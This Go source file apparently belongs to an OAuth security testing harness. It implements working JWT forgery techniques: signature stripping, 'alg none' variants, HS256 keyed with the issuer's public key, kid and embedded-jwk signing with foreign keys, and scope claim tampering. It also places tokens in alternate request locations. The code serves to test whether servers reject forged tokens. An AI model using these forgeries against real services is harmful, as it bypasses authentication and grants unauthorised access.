package actor

import (
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"github.com/lestrrat-go/jwx/v3/jwa"
	"github.com/lestrrat-go/jwx/v3/jwk"
	"github.com/lestrrat-go/jwx/v3/jws"

	"github.com/scopeproof/scopeproof/oauth"
)

// Forgery is a way to make a JWT access token say what its issuer did not (RFC 8725
// section 2).
type Forgery string

// The ways to forge a JWT.
const (
	KeptSignature  Forgery = "kept signature"  // new claims under the old signature
	NoSignature    Forgery = "no signature"    // alg none, in several spellings
	BlankSignature Forgery = "blank signature" // the issuer's alg with no signature, and with one of zeros
	PublicKeyHMAC  Forgery = "public key HMAC" // HS256 keyed with the issuer's public key
	UnknownKey     Forgery = "unknown key"     // signed with a key of nobody, under the issuer's kid
	KeyInTheHeader Forgery = "key in header"   // signed with the key in its own jwk
)

// Forgeries are all of them.
func Forgeries() []Forgery {
	return []Forgery{KeptSignature, NoSignature, BlankSignature, PublicKeyHMAC, UnknownKey, KeyInTheHeader}
}

// Forge returns copies of a JWT with claims put over its own, none of them signed
// by its issuer. PublicKeyHMAC yields one for each way in which the public key is
// commonly written. A token that is opaque is an error.
func (c *Cast) Forge(ctx context.Context, token oauth.AccessToken, how Forgery, claims map[string]any) ([]oauth.AccessToken, error) {
	parts := strings.Split(token.Reveal(), ".")
	own, ok := decodeJWT(token)
	if !ok {
		return nil, fmt.Errorf("a token is forged: got an opaque one, want a JWT")
	}
	all := map[string]any{}
	for name, value := range own {
		all[name] = value
	}
	for name, value := range claims {
		all[name] = value
	}
	header := map[string]any{}
	if text, err := base64.RawURLEncoding.DecodeString(parts[0]); err != nil || json.Unmarshal(text, &header) != nil {
		return nil, fmt.Errorf("a token is forged: its header cannot be read")
	}
	forged, err := c.forge(ctx, parts, header, all, how)
	for _, f := range forged {
		c.Recorder.keep(f)
	}
	return forged, err
}

// ForgeScope is [Cast.Forge] with another scope, under the claim that the token has
// for it.
func (c *Cast) ForgeScope(ctx context.Context, token oauth.AccessToken, how Forgery, scope oauth.RawScope) ([]oauth.AccessToken, error) {
	claims := map[string]any{"scope": c.Wire(scope)}
	if own, _ := decodeJWT(token); own["scp"] != nil {
		claims["scp"] = strings.Fields(c.Wire(scope))
	}
	return c.Forge(ctx, token, how, claims)
}

func (c *Cast) forge(ctx context.Context, parts []string, header, claims map[string]any, how Forgery) ([]oauth.AccessToken, error) {
	payload, err := segment(claims)
	if err != nil {
		return nil, err
	}
	switch how {
	case KeptSignature:
		return []oauth.AccessToken{oauth.AccessToken(parts[0] + "." + payload + "." + parts[2])}, nil
	case NoSignature:
		return unsigned(header, payload)
	case BlankSignature:
		signature, err := base64.RawURLEncoding.DecodeString(parts[2])
		zeros := base64.RawURLEncoding.EncodeToString(make([]byte, len(signature)))
		text := parts[0] + "." + payload + "."
		return []oauth.AccessToken{oauth.AccessToken(text), oauth.AccessToken(text + zeros)}, err
	case PublicKeyHMAC:
		return c.forgeHMAC(ctx, header, payload)
	case UnknownKey, KeyInTheHeader:
		key, err := newHarnessKey()
		if err != nil {
			return nil, err
		}
		return signedAnew(key, header, claims, how == KeyInTheHeader)
	}
	return nil, fmt.Errorf("no way to forge a token is called %q", how)
}

// unsigned are tokens with the algorithm none: what refuses the one spelling may
// know the others.
func unsigned(header map[string]any, payload string) ([]oauth.AccessToken, error) {
	var all []oauth.AccessToken
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		header["alg"] = alg
		head, err := segment(header)
		if err != nil {
			return nil, err
		}
		all = append(all, oauth.AccessToken(head+"."+payload+"."))
	}
	return all, nil
}

// signedAnew signs with a key of nobody. A kid is kept, so that the issuer's key is
// looked up.
func signedAnew(key *harnessKey, header, claims map[string]any, shown bool) ([]oauth.AccessToken, error) {
	fields := jws.NewHeaders()
	for _, name := range []string{"typ", "kid"} {
		if value, ok := header[name].(string); ok {
			if err := fields.Set(name, value); err != nil {
				return nil, err
			}
		}
	}
	if shown {
		public, err := key.private.PublicKey()
		if err == nil {
			err = fields.Set(jws.JWKKey, public)
		}
		if err != nil {
			return nil, err
		}
	}
	payload, err := json.Marshal(claims)
	if err != nil {
		return nil, err
	}
	signed, err := jws.Sign(payload, jws.WithKey(jwa.ES256(), key.private, jws.WithProtectedHeaders(fields)))
	return []oauth.AccessToken{oauth.AccessToken(signed)}, err
}

// forgeHMAC keys an HMAC with each public key of the issuer, as DER, as PEM and as
// JWK.
func (c *Cast) forgeHMAC(ctx context.Context, header map[string]any, payload string) ([]oauth.AccessToken, error) {
	set, err := c.Stage.keys.get(ctx, c)
	if err != nil {
		return nil, err
	}
	header["alg"] = "HS256"
	head, err := segment(header)
	if err != nil {
		return nil, err
	}
	var forged []oauth.AccessToken
	for i := range set.Len() {
		key, _ := set.Key(i)
		if own, ok := key.KeyID(); ok && header["kid"] != nil && own != header["kid"] {
			continue
		}
		secrets, err := spelled(key)
		if err != nil {
			return nil, err
		}
		for _, secret := range secrets {
			mac := hmac.New(sha256.New, secret)
			mac.Write([]byte(head + "." + payload))
			forged = append(forged, oauth.AccessToken(head+"."+payload+"."+base64.RawURLEncoding.EncodeToString(mac.Sum(nil))))
		}
	}
	return forged, nil
}

// spelled is a public key as DER, as PEM and as JWK.
func spelled(key jwk.Key) ([][]byte, error) {
	written, err := jwk.Pem(key)
	if err != nil {
		return nil, err
	}
	text, err := json.Marshal(key)
	all := [][]byte{written, text}
	if block, _ := pem.Decode(written); block != nil {
		all = append(all, block.Bytes)
	}
	return all, err
}

// segment is a part of a JWT (RFC 7515 section 3.1).
func segment(value any) (string, error) {
	text, err := json.Marshal(value)
	return base64.RawURLEncoding.EncodeToString(text), err
}

// Present is a request that carries its token elsewhere than in the header: in the
// "form" (RFC 6750 section 2.2) or the "query" (section 2.3), in "cookies", in
// "headers of gateways", in the header under another "scheme", or in the header of a
// user with a "password" or a "user name" (RFC 7617). It is to be sent with
// [Cast.CallWire], and without a token unless it stands in both places.
func Present(place string, token oauth.AccessToken) (Wire, error) {
	text := token.Reveal()
	value := url.Values{"access_token": {text}}.Encode()
	switch place {
	case "form":
		return Wire{Header: http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}, Body: value}, nil
	case "query":
		return Wire{Query: value}, nil
	case "cookies":
		return Wire{Header: http.Header{"Cookie": {"access_token=" + text + "; token=" + text + "; jwt=" + text}}}, nil
	case "headers of gateways":
		return Wire{Header: http.Header{"X-Access-Token": {text}, "X-Auth-Token": {text}, "X-Forwarded-Access-Token": {text}}}, nil
	case "password":
		return basic("oauth2", text), nil
	case "user name":
		return basic(text, "x-oauth-basic"), nil
	}
	if scheme, ok := strings.CutPrefix(place, "scheme "); ok {
		return Wire{Header: http.Header{"Authorization": {scheme + " " + text}}}, nil
	}
	return Wire{}, fmt.Errorf("no place for a token is called %q", place)
}

// basic is the header of a user with a password (RFC 7617 section 2), with the words
// that go with a token where such headers carry one.
func basic(user, password string) Wire {
	pair := base64.StdEncoding.EncodeToString([]byte(user + ":" + password))
	return Wire{Header: http.Header{"Authorization": {"Basic " + pair}}}
}
